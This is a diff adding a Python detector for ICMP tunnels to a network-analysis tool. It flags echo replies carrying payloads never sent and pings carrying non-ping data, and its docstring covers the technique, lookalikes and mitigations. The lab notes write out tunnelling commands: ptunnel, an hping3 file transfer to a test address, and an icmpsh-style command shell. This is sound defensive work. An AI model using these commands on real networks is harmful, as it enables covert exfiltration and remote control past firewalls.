@@ -1,0 +1,294 @@
+"""ICMP tunnel: other traffic hidden in the payload of pings.
+
+What it is:
+    An echo request may carry any octets, and the reply must bring the same ones back (RFC 792). Programs on
+    both sides put packets, commands or files there instead: a channel on the internet layer that needs no
+    port and that many firewalls let out, because it looks like ping.
+
+Exchange:
+    inside host                         accomplice outside
+       | -- echo request "GET / HTTP…" ---> |
+       | <- echo reply   "GET / HTTP…" ---- |   the kernel answers as it must
+       | <- echo reply   "HTTP/1.1 200 …" - |   the tunnel's own answer: not what was asked
+       | -- echo request "…" -------------> |
+
+How it is recognised:
+    Between two hosts at least `altered` different payloads in echo replies that were in none of the
+    requests, and these are at least `altered_share` of all replies' payloads: a reply has to bring back
+    what was sent. The request with a reply's number must be in the capture, unless that is so of few only.
+    One-sided data: at least `contents` different payloads, `octets` octets in all, that are not what ping
+    programs fill in (a time, then the same or counting octets).
+
+What looks the same:
+- Ping fills its packets with a time and a pattern; monitoring often with one text. Both are told by their
+  sameness.
+- Some routers cut long replies short; the first octets still are the same.
+- Tests with random fill (`fping -R`, `nping --data-length`) look like data; there are few of them.
+
+How to stop it:
+- Let echo requests out only from those who need them, and limit their size and rate.
+- A proxying firewall that builds replies itself, or drops replies that do not match, ends such tunnels.
+- Find the program on the inside host: it needs administrator's rights.
+
+Limits:
+    A tunnel that is as slow as ping and imitates its pattern is not seen. The first 48 octets are compared.
+
+In the lab:
+    python -m lab.scenarios icmp-tunnel-ptunnel      (ptunnel -p PROXY -lp 8000 -da SERVER -dp 80)
+    python -m lab.scenarios icmp-tunnel-shell        (commands in replies, as icmpsh does)
+    python -m lab.scenarios icmp-tunnel-file         (hping3 --icmp -d 200 -E FILE 198.51.100.80)
+
+References:
+- RFC 792, Echo or Echo Reply Message: the data received must be returned
+- Daemon9, Project Loki, Phrack 49 (1996)
+- MITRE ATT&CK T1095, Non-Application Layer Protocol
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator, Sequence
+from dataclasses import dataclass
+
+import numpy as np
+import pyarrow.compute as pc
+
+from netanatomy.detect.detector import PAYLOAD, Detector, Kept, Proof, Verdict, threshold
+from netanatomy.detect.echo_payloads import HEAD, TIME, digest_of, is_pattern, numbers_of
+from netanatomy.detect.echoes import echo_rows, echo_types
+from netanatomy.detect.relations import Distinct, First, Row, Summary, Totals
+from netanatomy.detect.tables import Tables, kept, packet_places
+from netanatomy.schema.findings import Severity
+from netanatomy.schema.match import Selector, between, where
+from netanatomy.schema.network import Network
+from netanatomy.schema.rules import Rule
+from netanatomy.tables.rows import Places, Rows
+from netanatomy.tables.text import address_text
+
+SECOND = 10**9  # ns
+SHORT = 24  # octets: with less than this behind the time a pattern cannot be told
+NUMBERS = 4_096
+"""Requests of a pair whose numbers are remembered. Bounds floods of pings."""
+LOST = 0.75
+"""Share of replies whose request the recorder may have lost; with more they are answers to nothing."""
+FRAMES = 8
+"""Frames kept of each direction of a pair."""
+
+
+@dataclass(frozen=True, slots=True)
+class Config:
+    """Thresholds."""
+
+    altered: int = threshold(5, "payloads", "payloads of replies that nobody sent", "RFC 792 allows none")
+    altered_share: float = threshold(
+        0.3, "", "their share of the replies' payloads", "a capture that lost requests shows some"
+    )
+    contents: int = threshold(
+        20, "payloads", "different payloads that are no pattern", "a test by hand sends fewer"
+    )
+    octets: int = threshold(2_048, "octets", "octets in them", "less is hardly worth a tunnel")
+
+
+def observe(tables: Tables, config: Config) -> Kept:
+    """Echo messages by pair of hosts and direction; of those that ping did not fill, what they hold."""
+    packets = tables.packets
+    requests, replies = echo_rows(packets)
+    for rows, asker, answerer, reply in (
+        (requests, "ip_source", "ip_destination", 0),
+        (replies, "ip_destination", "ip_source", 1),
+    ):
+        # Where the capture cut the header itself there is no payload to speak of.
+        whole = rows[packets.valid_at("icmp_sequence", rows)]
+        if len(whole):
+            if not reply:
+                yield (
+                    "numbers",
+                    kept(
+                        packets,
+                        whole,
+                        (f"asker={asker}", f"answerer={answerer}"),
+                        number=numbers_of(packets, whole),
+                    ),
+                )
+            yield from _direction(packets, whole, (f"asker={asker}", f"answerer={answerer}"), reply)
+
+
+def _direction(packets: Rows, rows: Places, pair: tuple[str, str], reply: int) -> Kept:
+    length = packets.at("payload_length", rows)
+    heads = packets.payload_heads(rows, HEAD)
+    strange, short = ~is_pattern(heads, length), length < SHORT
+    direction = np.full(len(rows), reply, np.int64)
+    yield (
+        "pairs",
+        kept(
+            packets,
+            rows,
+            (*pair, "start=time", "end=time"),
+            reply=direction,
+            strange=(strange & ~short).astype(np.int64),
+            messages=1,
+            octets=np.where(strange & ~short, length, 0),
+        ),
+    )
+    some = np.flatnonzero(strange | short)
+    if not len(some):
+        return
+    digest, tail = digest_of(heads[some]), digest_of(heads[some, TIME:])
+    tail[short[some]] = 0
+    mine, direction = rows[some], direction[some]
+    yield "contents", kept(packets, mine, pair, reply=direction, digest=digest, tail=tail)
+    if reply:
+        yield "answers", kept(packets, mine, pair, digest=digest, number=numbers_of(packets, mine))
+    names = {part.partition("=")[0]: packets.take(part.partition("=")[2], mine) for part in pair}
+    yield "frames", packet_places(packets, mine, **names, reply=direction, digest=digest)
+
+
+def judge(summary: Summary, config: Config, network: Network) -> Iterator[Verdict]:
+    """One verdict for each pair of hosts that exchange data in pings."""
+    if "contents" not in summary:
+        return
+    contents = summary.counted("contents")
+    least = min(config.altered, config.contents)
+    busy = {
+        (row["asker"], row["answerer"])
+        for row in contents.filter(pc.greater_equal(contents["total"], least)).to_pylist()
+    }
+    if not busy:
+        return
+    held, pairs = (
+        summary.groups("contents", "asker", "answerer"),
+        summary.groups("pairs", "asker", "answerer"),
+    )
+    frames = summary.groups("frames", "asker", "answerer")
+    numbers, answers = (
+        summary.groups("numbers", "asker", "answerer"),
+        summary.groups("answers", "asker", "answerer"),
+    )
+    for pair in sorted(busy):
+        if pair in pairs:
+            told = _told(numbers.get(pair, ()), answers.get(pair, ()))
+            yield from _verdict(pair, held[pair], pairs[pair], frames[pair], told, config)
+
+
+def _told(numbers: Sequence[Row], answers: Sequence[Row]) -> frozenset[int] | None:
+    """Payloads of replies whose request is in the capture; None where there are too many to say."""
+    if len(numbers) >= NUMBERS:
+        return None
+    asked = {row["number"] for row in numbers}
+    return frozenset(row["digest"] for row in answers if row["number"] in asked)
+
+
+def _verdict(
+    pair: tuple[bytes, bytes],
+    held: Sequence[Row],
+    totals: Sequence[Row],
+    frames: Sequence[Row],
+    told: frozenset[int] | None,
+    config: Config,
+) -> Iterator[Verdict]:
+    asked = {row["digest"] for row in held if not row["reply"]}
+    answered = {row["digest"] for row in held if row["reply"]}
+    altered = answered - asked
+    if told is not None and len(altered - told) <= LOST * len(answered):
+        altered &= told  # the requests of the others may be what the recorder lost
+    requests = sum(row["messages"] for row in totals if not row["reply"])
+    replies = sum(row["messages"] for row in totals if row["reply"])
+    octets = sum(row["octets"] for row in totals)
+    tails = len({row["tail"] for row in held if row["tail"]})
+    both = (
+        requests > 0
+        and len(altered) >= config.altered
+        and len(altered) >= config.altered_share * len(answered)
+    )
+    if not both and (tails < config.contents or octets < config.octets):
+        return
+    client, server = address_text(pair[0]), address_text(pair[1])
+    start, end = min(row["start"] for row in totals), max(row["end"] for row in totals)
+    request_type, reply_type = echo_types(client)
+    if both:
+        why = (
+            f"{len(altered)} different payloads came back from {server} that {client} never sent, though an "
+            "echo reply must bring back what the request held"
+        )
+        shown = [row for row in frames if row["reply"] and row["digest"] in altered]
+        shown += [row for row in frames if not row["reply"]]
+    else:
+        why = (
+            f"{tails} different payloads are not the pattern that ping programs fill in, "
+            f"{octets} octets in all: the pings carry data"
+        )
+        shown = list(frames)
+    yield Verdict(
+        subject=f"{client} {server}",
+        title=f"ICMP tunnel from {client} to {server}",
+        severity=Severity.HIGH if both else Severity.MEDIUM,
+        confidence=0.9 if both else 0.6,
+        attackers=(client,),
+        victims=(),
+        others={"far end": (server,)},
+        start=start,
+        end=end,
+        counts={
+            "requests": requests,
+            "replies": replies,
+            "octets": octets,
+            "different_payloads": tails,
+            "altered_payloads": len(altered) if both else 0,
+        },
+        reason=(
+            f"{client} and {server} exchanged {requests} echo requests and {replies} replies in "
+            f"{(end - start) / SECOND:.1f} s. {why[0].upper()}{why[1:]}."
+        ),
+        proofs=tuple(
+            Proof(
+                row["frame"],
+                row["depth"],
+                PAYLOAD,
+                "reply with octets that were not sent" if row["reply"] and both else "data in a ping",
+            )
+            for row in (*shown[:5], *shown[FRAMES : FRAMES + 5])
+        ),
+        frames=requests + (replies if both else 0),
+        scope=(
+            Selector(
+                (
+                    *where(ip_source=client, ip_destination=server, icmp_type=request_type),
+                    *between(start, end),
+                )
+            ),
+            *(
+                (
+                    Selector(
+                        (
+                            *where(ip_source=server, ip_destination=client, icmp_type=reply_type),
+                            *between(start, end),
+                        )
+                    ),
+                )
+                if both
+                else ()
+            ),
+        ),
+        rule=Rule(matches=where(ip_source=client, ip_destination=server, icmp_type=request_type)),
+        advice=("let echo requests leave the network only from hosts that need them",),
+    )
+
+
+DETECTOR = Detector(
+    name="icmp-tunnel",
+    title="ICMP tunnel",
+    layer="internet",
+    techniques=("T1095",),
+    config=Config(),
+    relations={
+        "pairs": Totals(
+            ("asker", "answerer", "reply"), ("strange", "messages", "octets"), ("start",), ("end",)
+        ),
+        "contents": Distinct(("asker", "answerer", "reply"), ("digest", "tail"), 512),
+        "numbers": Distinct(("asker", "answerer"), ("number",), NUMBERS),
+        "answers": Distinct(("asker", "answerer"), ("digest", "number"), NUMBERS),
+        "frames": First(("asker", "answerer", "reply"), ("digest",), FRAMES),
+    },
+    observe=observe,
+    judge=judge,
+    packets=("icmp_type", "icmp_identifier", "icmp_sequence", "ip_protocol", "ip_source", "ip_destination"),
+)
